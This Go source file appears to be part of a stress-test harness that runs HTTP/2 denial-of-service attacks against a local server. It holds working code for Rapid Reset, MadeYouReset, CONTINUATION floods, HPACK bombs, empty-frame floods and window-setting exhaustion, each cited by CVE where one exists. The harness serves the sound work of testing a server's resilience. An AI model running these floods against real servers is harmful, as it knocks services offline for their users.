package main

import (
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// floods is the number of connections of each attack on the protocol.
const floods = 20

// http2Rows attack HTTP/2 itself, with a certificate that is no user: nothing of this reaches admission.
var http2Rows = []row{
	flood("http2-rapid-reset", "calls that are reset at once (CVE-2023-44487)", func(c *h2) error {
		id, err := c.open(pathRange, "127.0.0.1", true)
		if err != nil {
			return err
		}
		return c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
	}),
	flood("http2-made-you-reset-zero", "calls that the server must reset, by a window update of 0 (CVE-2025-8671)", func(c *h2) error {
		id, err := c.open(pathRange, "127.0.0.1", true)
		if err != nil {
			return err
		}
		return c.fr.WriteRawFrame(http2.FrameWindowUpdate, 0, id, make([]byte, 4))
	}),
	flood("http2-made-you-reset-window", "the same, by a window that overflows", func(c *h2) error {
		id, err := c.open(pathRange, "127.0.0.1", true)
		if err != nil {
			return err
		}
		return c.fr.WriteWindowUpdate(id, 1<<31-1)
	}),
	flood("http2-made-you-reset-data", "the same, by data after the end of the stream", func(c *h2) error {
		id, err := c.open(pathRange, "127.0.0.1", true)
		if err != nil {
			return err
		}
		return c.fr.WriteData(id, false, []byte("x"))
	}),
	flood("http2-made-you-reset-priority", "the same, by a stream that depends on itself", func(c *h2) error {
		id, err := c.open(pathRange, "127.0.0.1", true)
		if err != nil {
			return err
		}
		return c.fr.WritePriority(id, http2.PriorityParam{StreamDep: id})
	}),
	{
		name: "http2-continuation", what: "header blocks of CONTINUATION frames without an end (CVE-2024-24549 and others)",
		attack: func(a *attacker) error {
			a.begin()
			field := encoded(hpack.HeaderField{Name: "x-filler", Value: strings.Repeat("a", 1000)})
			a.flood(func(c *h2) error {
				if c.last == 0 {
					c.last = 1
					return c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: field})
				}
				return c.fr.WriteContinuation(1, false, field)
			})
			return nil
		},
	},
	flood("http2-settings", "SETTINGS frames, each of which wants an acknowledgement that is not read", func(c *h2) error {
		return c.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535}, http2.Setting{ID: http2.SettingHeaderTableSize, Val: 0})
	}, deafHalf),
	flood("http2-ping", "PING frames whose answers are not read", func(c *h2) error { return c.fr.WritePing(false, [8]byte{}) }, deafHalf),
	flood("http2-empty-data", "empty DATA frames on one open call (CVE-2019-9518)", func(c *h2) error {
		if c.last == 0 {
			_, err := c.open(pathRange, "127.0.0.1", false)
			return err
		}
		return c.fr.WriteData(c.last, false, nil)
	}),
	flood("http2-empty-headers", "header fields without a name and a value (CVE-2019-9516)", func(c *h2) error {
		_, err := c.open(pathRange, "127.0.0.1", true, make([]hpack.HeaderField, 500)...)
		return err
	}),
	{
		name: "http2-hpack-bomb", what: "header blocks that refer 4,000 times to one field of 4 KB: 16 MB from 4 KB",
		attack: func(a *attacker) error {
			a.begin()
			// Index 62 is the newest entry of the dynamic table.
			bomb := strings.Repeat("\xbe", 4000)
			a.flood(func(c *h2) error {
				// The server may keep the connection and refuse the call: the table must stay filled.
				if _, err := c.open(pathRange, "127.0.0.1", true, hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 4000)}); err != nil {
					return err
				}
				c.last += 2
				return c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: c.last, BlockFragment: []byte(bomb), EndHeaders: true, EndStream: true})
			})
			return nil
		},
	},
	{
		name: "http2-zero-window", what: "ranges of everything on connections whose windows are 0, on 20 connections",
		fixture: fixture{big: true},
		attack: func(a *attacker) error {
			a.begin()
			request := message(everything())
			a.each(floods, func(int) error {
				c, err := a.h2("reader", h2options{stingy: true, settings: noWindows})
				if err != nil {
					return err
				}
				defer c.Close()
				for i := 0; i < a.Scale.of(10, 50) && !a.over(); i++ {
					if _, err := c.call(pathRange, request, true); err != nil {
						return err
					}
					a.count("calls", 1)
				}
				return a.keep(c)
			})
			return nil
		},
	},
	{
		name: "http2-settings-flip", what: "initial windows that change again and again while 1,000 calls are open, on 20 connections",
		full: true,
		attack: func(a *attacker) error {
			a.begin()
			// A server must visit all of its streams at each change.
			a.flood(func(c *h2) error {
				for c.last < 2*1000-1 {
					if _, err := c.open(pathRange, "127.0.0.1", false); err != nil {
						return err
					}
				}
				c.flips++
				return c.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1000 + c.flips%2*1000})
			})
			return nil
		},
	},
}

// keep waits until the attack is over or the connection ends.
func (a *attacker) keep(c *h2) error {
	for !a.over() {
		if err := c.ended(); err != nil {
			return err
		}
		a.rest(100 * time.Millisecond)
	}
	return nil
}

// deafHalf makes every second connection read nothing.
func deafHalf(i int, o *h2options) { o.deaf = i%2 == 1 }

func flood(name, what string, frames func(*h2) error, ways ...func(int, *h2options)) row {
	return row{name: name, what: what + ", on 20 connections", attack: func(a *attacker) error {
		a.begin()
		a.flood(frames, ways...)
		return nil
	}}
}

// flood writes the frames again and again on each of the connections, and connects again where the server ends one.
func (a *attacker) flood(frames func(*h2) error, ways ...func(int, *h2options)) {
	a.each(floods, func(i int) error {
		// The resets show that a server meets the attack, and does not only end the connection.
		o := h2options{on: func(f http2.Frame) {
			if _, ok := f.(*http2.RSTStreamFrame); ok {
				a.count("resets by the server", 1)
			}
		}}
		for _, way := range ways {
			way(i, &o)
		}
		c, err := a.h2("nobody", o)
		if err != nil {
			return err
		}
		defer c.Close()
		const batch = 50
		for !a.over() {
			err := c.do(func() error {
				for range batch {
					if err := frames(c); err != nil {
						return err
					}
				}
				return nil
			})
			if ended := c.ended(); ended != nil {
				return ended
			}
			if err != nil {
				return err
			}
			a.count("attempts", batch)
		}
		return nil
	})
}

// encoded is a header field as HPACK without an index.
func encoded(f hpack.HeaderField) []byte {
	var b strings.Builder
	f.Sensitive = true
	_ = hpack.NewEncoder(&b).WriteField(f)
	return []byte(b.String())
}

// noWindows lets the server send no data.
var noWindows = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}

var wideWindows = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1 << 30}, {ID: http2.SettingMaxFrameSize, Val: 1 << 20}}

// endsStream says whether the frame ends a stream.
func endsStream(f http2.Frame) bool {
	switch f := f.(type) {
	case *http2.DataFrame:
		return f.StreamEnded()
	case *http2.HeadersFrame:
		return f.StreamEnded()
	case *http2.MetaHeadersFrame:
		return f.StreamEnded()
	case *http2.RSTStreamFrame:
		return true
	}
	return false
}

// bytes counts received data.
func (a *attacker) bytes(f http2.Frame) {
	if data, ok := f.(*http2.DataFrame); ok {
		a.count("bytes received", len(data.Data()))
	}
}
